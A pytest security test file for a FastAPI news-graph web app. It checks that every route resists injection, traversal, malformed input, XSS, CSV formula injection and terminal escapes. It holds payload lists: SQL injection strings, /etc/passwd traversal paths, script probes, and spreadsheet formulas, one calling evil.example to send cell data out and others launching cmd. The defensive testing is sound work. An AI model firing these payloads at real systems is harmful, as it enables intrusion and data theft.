"""Hostile requests against the web app: every route x every parameter x injection, traversal,
huge and malformed values (4xx or a correct empty answer, never a 5xx, never another table's
data); stored and reflected XSS probes parsed out of every page; a real uvicorn server on
loopback holding 200 concurrent requests (the 1,000-request run is bench/web_load.py)."""

from __future__ import annotations

import asyncio
import importlib.util
import socket
import threading
import time
import warnings
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest

from newsgraph.model import Article, Entity, Event, Paragraph, Quote, Speaker, TimeExpression
from newsgraph.store import connect, store_articles
from newsgraph.web import create_app

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.routing import APIRoute
    from fastapi.testclient import TestClient

CANARY = "CANARY-5e1f-meta-row"
"""Stored only in the meta table, which no route reads: seeing it means a query was subverted."""
XSS = ['<script>alert("x")</script>', '"><img src=x onerror=alert(1)>', "<svg onload=alert(2)>",
       "javascript:alert(3)", "{{7*7}}{% raw %}", "</textarea><iframe srcdoc='<script>alert(4)</script>'>"]
SQLI = ["' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "1; DROP TABLE quotes; --",
        "' UNION SELECT key, value, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1 FROM meta --", "%' AND 1=0 UNION SELECT sql FROM sqlite_master --",
        "1 OR 1=1", "') OR ('a'='a", "\\'; SELECT load_extension('x'); --", "*", "\"", "NEAR(a b)", "a OR", "^x",
        "content:*", "speaker: evil", "-", "(", ")", "AND", "\u0000", "%00", "%", "_", "[", "]"]
TRAVERSAL = ["../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e/%2e%2e/pyproject.toml",
             "....//....//etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "%252e%252e%252fetc%252fpasswd"]
MALFORMED = ["", " ", "-1", "0", "99999999999999999999999", "1e309", "NaN", "inf", "0x10", "2019-13-45",
             "9999-99-99", "\udcff".encode("utf-8", "surrogatepass").decode("latin-1"), "\ufeff", "\u202e",
             "x" * 301, "y" * 20_000]
SECRETS = (CANARY, "CREATE TABLE", "root:x:0:0", "[build-system]", "Traceback")


def _article(i: int, evil: str) -> Article:
    title = f"Title {i} {evil}"
    body = f"\u201cWe said {evil} and more,\u201d Ann {evil} Lee told reporters in Paris on 3 May 2019."
    text = f"{title}\n\n{body}\n"
    b0 = len(title) + 2
    qs = b0 + 1
    qe = b0 + body.index("\u201d")
    name_at = text.index("Ann ")
    name_end = name_at + len(f"Ann {evil} Lee")
    paris = text.index("Paris")
    date = text.index("3 May 2019")
    person = f"Ann {evil} Lee"
    return Article(
        text=text, document=f"doc{i}{evil}.txt", title=title, source=f"in/doc{i}.txt", outlet=evil,
        url=evil if evil.startswith("javascript") else f"https://example.org/{i}?q={evil}",
        published="2019-05-03",
        paragraphs=[Paragraph(0, len(title), "heading"), Paragraph(b0, b0 + len(body), "text")],
        entities=[Entity(person, "PERSON", [(name_at, name_end)], aliases=[evil], roles=[evil]),
                  Entity("Paris", "GPE", [(paris, paris + 5)], geo={"lat": 48.85, "lon": 2.35, "country": "FR"})],
        quotes=[Quote([(qs, qe)], "direct", Speaker(person, (name_at, name_end), evil),
                      cue=(name_end + 1, name_end + 5), cue_lemma="tell")],
        times=[TimeExpression((date, date + 10), "3 May 2019", "2019-05-03", "absolute")],
        timeline=[Event("2019-05-03", f"told {evil}", (b0, b0 + len(body)), [person], ["Paris"])],
    )


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("websec") / "web.db"
    conn = connect(path)
    store_articles(conn, [_article(i, evil) for i, evil in enumerate(XSS)])
    with conn:
        conn.execute("INSERT INTO meta(key, value) VALUES ('canary', ?)", (CANARY,))
        conn.execute("INSERT INTO failures(source, problem) VALUES (?, ?)", ("in/x.txt", "broken"))
    conn.close()
    return path


@pytest.fixture(scope="module")
def client(db: Path) -> Iterator[TestClient]:
    with TestClient(create_app(db), raise_server_exceptions=False) as c:
        yield c


def _routes(client: TestClient) -> list[tuple[str, list[str], list[str]]]:
    """(path, path params, query params) of every GET route, pages and API alike."""
    out = []

    def walk(routes: list, prefix: str) -> None:  # type: ignore[type-arg]
        for r in routes:
            included = getattr(r, "original_router", None)  # FastAPI >= 0.165 keeps included routers whole
            if included is not None:
                walk(included.routes, prefix + getattr(getattr(r, "include_context", None), "prefix", ""))
            elif isinstance(r, APIRoute) and "GET" in r.methods:
                out.append((prefix + r.path, [p.name for p in r.dependant.path_params],
                            [p.alias for p in r.dependant.query_params]))

    walk(client.app.routes, "")
    assert len(out) >= 15, out
    return out


def _fill(path: str, value: str | None = None, params: list[str] | None = None) -> str:
    defaults = {"article_id": "1", "key": "1", "name": "Paris", "group_id": "1"}
    for p in params or []:
        path = path.replace("{" + p + ":path}", value or defaults[p]).replace("{" + p + "}", value or defaults[p])
    return path


def _assert_safe(r: httpx.Response, what: str) -> None:
    assert r.status_code < 500, (what, r.status_code, r.text[:300])
    for secret in SECRETS:
        assert secret not in r.text, (what, secret)


def test_every_route_and_parameter_survives_injection_and_malformed_values(client: TestClient) -> None:
    tried = 0
    for path, path_params, query_params in _routes(client):
        base = _fill(path, params=path_params)
        for param in query_params:
            for value in SQLI + MALFORMED:  # XSS probes: test_reflected_probes_in_parameters_are_escaped
                r = client.get(base, params={param: value})
                _assert_safe(r, f"{base}?{param}={value[:40]!r}")
                tried += 1
            r = client.get(base + f"?{param}=a&{param}=b&{param}=%FF%FE%00")  # repeated, raw bad bytes
            _assert_safe(r, f"{base} repeated {param}")
    assert tried > 500


ARTICLE_REFS_ONCE_BROKEN = ("99999999999999999999999", "\u00b2", "%%%%%%%", "______")


def test_article_reference_parameter_huge_unicode_digits_and_wildcards(client: TestClient) -> None:
    for path in ("/api/quotes", "/api/timeline", "/search", "/timeline"):
        for value in ARTICLE_REFS_ONCE_BROKEN:
            r = client.get(path, params={"article": value})
            assert r.status_code == 404, (path, value, r.status_code)


def test_path_parameters_survive_injection_traversal_and_malformed(client: TestClient) -> None:
    from urllib.parse import quote

    for path, path_params, _ in _routes(client):
        for param in path_params:
            for value in SQLI + TRAVERSAL + MALFORMED[:-1] + XSS:
                url = _fill(path, quote(value, safe="%/") if value else "%20", [param])
                _assert_safe(client.get(url), url)


def test_injection_gives_correct_empty_results_not_everything(client: TestClient) -> None:
    everything = client.get("/api/quotes", params={"limit": 1000}).json()["items"]
    assert len(everything) == len(XSS)
    for value in ("' OR '1'='1", "' OR 1=1 --", "1 OR 1=1", "') OR ('a'='a", "%' --"):
        for param in ("speaker", "search", "article"):
            r = client.get("/api/quotes", params={param: value})
            assert r.status_code in (200, 404, 422), (param, value, r.status_code)
            if r.status_code == 200:
                assert len(r.json()["items"]) < len(everything), f"{param}={value!r} returned every quotation"
    assert client.get("/api/people", params={"name": "' OR 1=1 --"}).json()["items"] == []
    assert client.get("/api/places", params={"name": "' OR 1=1 --"}).json()["items"] == []
    stats = client.get("/api/stats").json()
    assert stats["quotes"] == len(XSS)  # nothing was dropped by "DROP TABLE"


def test_like_wildcards_in_name_filters_are_literal(client: TestClient) -> None:
    for path, param in (("/api/places", "name"), ("/api/people", "name"), ("/api/quotes", "speaker")):
        for value in ("%", "_", "%a%"):
            rows = client.get(path, params={param: value}).json()["items"]
            key = "speaker" if param == "speaker" else "name"
            assert all(value in (r[key] or "") for r in rows), (path, param, value, rows)


def test_static_files_cannot_escape_their_folder(client: TestClient) -> None:
    for t in TRAVERSAL:
        for prefix in ("/static/", "/static/vendor/", "/"):
            _assert_safe(client.get(prefix + t), prefix + t)
    # raw dot segments, not normalised by the client
    with httpx.Client(transport=client._transport, base_url="http://testserver") as raw:  # type: ignore[attr-defined]
        for t in ("/static/../../../../etc/passwd", "/static/..%2f..%2f..%2fpyproject.toml"):
            r = raw.send(httpx.Request("GET", httpx.URL("http://testserver", raw_path=t.encode())))
            _assert_safe(r, t)


def test_only_get_and_head(client: TestClient) -> None:
    for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"):
        for url in ("/", "/api/quotes", "/article/1", "/static/app.css"):
            r = client.request(method, url)
            assert 400 <= r.status_code < 500, (method, url, r.status_code)


class _Tags(HTMLParser):
    """Collects what a browser would execute: scripts, event handlers, javascript: URLs, frames."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.dangers.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(
                    ("javascript:", "data:text/html")):
                self.dangers.append(f"<{tag} {name}={value}>")
        if tag in ("iframe", "object", "embed", "svg", "img") and not dict(attrs).get("src", "/").startswith(
                ("/", "data:image")):
            self.dangers.append(f"<{tag}>")
        if tag == "script" and not (dict(attrs).get("src") or "").startswith("/static/") and \
                dict(attrs).get("type") != "application/json":
            self.dangers.append("inline <script>")


def _dangers(html: str) -> list[str]:
    p = _Tags()
    p.feed(html)
    return p.dangers


def test_stored_probes_are_escaped_on_every_page(client: TestClient) -> None:
    people = client.get("/api/people", params={"limit": 1000}).json()["items"]
    assert len(people) == len(XSS)
    pages = ["/", "/articles", "/people", "/search", "/search?q=said", "/timeline", "/map"]
    pages += [f"/article/{i}" for i in range(1, len(XSS) + 1)]
    pages += [f"/person/{httpx.URL('/x/').copy_with(path='/' + p['name']).raw_path.decode()[1:]}" for p in people]
    for url in pages:
        r = client.get(url)
        assert r.status_code == 200, (url, r.status_code)
        assert _dangers(r.text) == [], url
        assert "49" not in r.text.split("{{7*7}}")[0][-5:], "template expression evaluated"


def test_reflected_probes_in_parameters_are_escaped(client: TestClient) -> None:
    for path, path_params, query_params in _routes(client):
        if path.startswith("/api") or path == "/docs":
            continue
        base = _fill(path, params=path_params)
        for param in query_params:
            for probe in XSS:
                r = client.get(base, params={param: probe})
                assert r.status_code < 500
                assert _dangers(r.text) == [], (base, param, probe)
    r = client.get("/nowhere/" + XSS[0])  # the 404 page names the path
    assert r.status_code == 404 and _dangers(r.text) == []


# --- a real server on loopback -------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class LoopbackServer:
    """uvicorn serving the app on 127.0.0.1 in a thread, stopped on exit."""

    def __init__(self, db: Path) -> None:
        import uvicorn

        self.port = free_port()
        # a generous query budget: on a loaded 2-core runner the default 3 s could shed load with a
        # (correct) 503; here any 5xx must mean a bug. bench/web_load.py measures with the default.
        config = uvicorn.Config(create_app(db, timeout_ms=30_000), host="127.0.0.1", port=self.port, log_level="error",
                                limit_concurrency=2000, backlog=2048)
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> str:
        self.thread.start()
        deadline = time.monotonic() + 30
        while not self.server.started:
            assert time.monotonic() < deadline, "server did not start"
            time.sleep(0.05)
        return f"http://127.0.0.1:{self.port}"

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(15)


def _load_bench():  # type: ignore[no-untyped-def]
    """bench/web_load.py's request mix and client (one definition of both)."""
    spec = importlib.util.spec_from_file_location("web_load", Path(__file__).parent.parent / "bench" / "web_load.py")
    module = importlib.util.module_from_spec(spec)  # type: ignore[arg-type]
    spec.loader.exec_module(module)  # type: ignore[union-attr]
    return module


def test_two_hundred_concurrent_requests_on_loopback_no_5xx(db: Path) -> None:
    bench = _load_bench()
    with LoopbackServer(db) as base:
        statuses, failed, latencies = asyncio.run(bench.fire(base, bench.mixed_urls(200)))
    assert failed == 0, statuses
    assert sum(statuses.values()) == 200
    assert not [s for s in statuses if s >= 500], statuses
    assert statuses.get(200, 0) >= 100, statuses


def test_protocol_abuse_on_a_real_server(db: Path) -> None:
    with LoopbackServer(db) as base:
        with httpx.Client(base_url=base, timeout=20) as c:
            assert c.get("/search", params={"q": "z" * 60_000}).status_code < 500  # very long URL
            assert c.get("/", headers={"Host": "evil.example"}).status_code < 500
            assert c.get("/", headers={"X-Big": "v" * 30_000}).status_code < 500
            assert c.post("/api/quotes", content=b"\x00" * 100_000).status_code < 500
        with socket.create_connection(("127.0.0.1", int(base.rsplit(":", 1)[1])), timeout=10) as s:
            s.sendall(b"GET /\x00\xff HTTP/1.1\r\nHost: x\r\n\r\n")  # malformed request line
            reply = s.recv(200)
            assert not reply or reply.startswith(b"HTTP/1.1 4"), reply


def test_serving_while_an_ingest_writes_no_5xx(tmp_path: Path) -> None:
    """Readers (the web app) and a writer (an ingest) on one store at once: WAL keeps both going."""
    db = tmp_path / "live.db"
    conn = connect(db)
    store_articles(conn, [_article(i, "plain") for i in range(3)])
    stop = threading.Event()
    written = []

    def ingest_batches() -> None:
        writer = connect(db)
        k = 100
        while not stop.is_set():
            batch = [_article(k + j, f"batch {k}") for j in range(5)]
            written.append(store_articles(writer, batch)[0])
            k += 5
        writer.close()

    bench = _load_bench()
    with LoopbackServer(db) as base:
        t = threading.Thread(target=ingest_batches, daemon=True)
        t.start()
        try:
            statuses, failed, _ = asyncio.run(bench.fire(base, bench.mixed_urls(200)))
        finally:
            stop.set()
            t.join(30)
    assert failed == 0 and not [s for s in statuses if s >= 500], statuses
    assert sum(written) > 0
    conn.close()


def test_damaged_store_pages_say_so_instead_of_500(tmp_path: Path) -> None:
    db = tmp_path / "damaged.db"
    conn = connect(db)
    store_articles(conn, [_article(i, "plain " * 40) for i in range(200)])
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    data = bytearray(db.read_bytes())
    data[len(data) // 3: len(data) // 3 + 8192] = b"\xab" * 8192  # pages in the middle, header intact
    db.write_bytes(bytes(data))
    with TestClient(create_app(db), raise_server_exceptions=False) as c:
        urls = ["/", "/articles", "/people", "/search?q=said", "/timeline", "/map", "/api/quotes", "/api/people",
                "/api/timeline", "/api/places"] + [f"/api/articles/{i}" for i in range(1, 201)]
        codes = {u: c.get(u).status_code for u in urls}
    assert not [u for u, s in codes.items() if s == 500], codes


# --- hostile text leaving through export -----------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    import csv

    from newsgraph.cli import main

    db = tmp_path / "f.db"
    conn = connect(db)
    store_articles(conn, [_article(i, f) for i, f in enumerate(FORMULAS)])
    conn.close()
    assert main(["export", "--format", "csv", "--db", str(db), "--out", str(tmp_path / "out")]) == 0
    risky = []
    for f in (tmp_path / "out").glob("*.csv"):
        with open(f, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                risky += [f"{f.name}: {cell[:30]}" for cell in row if cell[:1] and cell[:1] in "=+@" and not cell[1:2].isdigit()]
    assert risky == []


# --- hostile text leaving through the terminal ---------------------------------------------------


def test_terminal_output_does_not_pass_escape_sequences_through(tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    from newsgraph.cli import main

    f = tmp_path / "esc.txt"
    f.write_text("Title\n\n\u201cWe are fine \x1b]0;HACKED\x07 \x1b[2J\x1b[31mred\x1b[0m,\u201d Ann Lee said on Monday.\n")
    main(["report", str(f)])
    out = capsys.readouterr().out
    assert "We are fine" in out
    for seq in ("\x1b]0;", "\x07", "\x1b[2J"):
        assert seq not in out, repr(seq)
